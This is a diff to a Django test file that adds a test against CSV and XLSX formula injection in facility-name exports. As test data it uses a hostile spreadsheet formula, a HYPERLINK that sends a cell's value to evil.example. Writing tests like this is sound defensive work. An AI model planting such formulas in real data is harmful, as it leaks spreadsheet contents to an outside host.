@@ -14,6 +14,8 @@ from analytics.pdf import render_statistics_pdf
 from analytics.periods import Period
 from analytics.selectors.filters import Filters
 from analytics.selectors.statistics import statistics_for
+from analytics.snapshot import snapshot_refresh
+from facilities.models import Facility
 
 pytestmark = pytest.mark.django_db
 
@@ -172,3 +174,20 @@ def test_chart_is_the_same_svg_on_the_page_and_in_the_pdf_html(english, known_da
     for _table, chart in page.context["tables_with_charts"]:
         assert str(chart) in html
         assert str(chart) in page.content.decode()
+
+
+def test_a_name_that_looks_like_a_formula_is_plain_text_in_csv_and_xlsx(english, known_data):
+    """A facility named "=HYPERLINK(…)" must not become a live formula (OWASP CSV injection)."""
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
+    Facility.objects.filter(name_en="Hospital A").update(name_en=hostile)
+    snapshot_refresh()
+    cells = [cell for row in csv_rows(english) for cell in row]
+    assert "'" + hostile in cells and hostile not in cells
+
+    response = english.get(reverse("analytics:export_xlsx") + JULY)
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    values = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    shown = [cell for cell in values if hostile in str(cell.value)]
+    assert shown and all(cell.data_type == "s" and str(cell.value).startswith("'=") for cell in shown)
+    # Figures stay numbers.
+    assert any(cell.data_type == "n" for cell in values)
